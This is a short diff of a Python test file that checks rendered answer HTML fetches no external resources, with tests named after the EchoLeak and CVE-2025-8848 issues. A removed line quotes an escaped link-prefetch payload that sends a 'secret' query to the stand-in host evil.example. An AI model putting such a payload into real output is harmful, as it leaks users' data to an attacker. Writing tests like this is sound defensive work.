@@ -479,7 +479,7 @@ def test_cve_2025_32711_echoleak_showing_an_answer_fetches_nothing(text: str) ->
     html = html_of(text).lower()
     assert "<img" not in html
     assert "<link" not in html
-    assert "src=" not in html.replace("&lt;link rel=prefetch href=https://evil.example/?q=secret&gt;", "")
+    assert "src=" not in html
 
 
 async def test_cve_2025_8848_the_language_of_the_browser_is_not_written_into_the_page(tmp_path: Path) -> None:
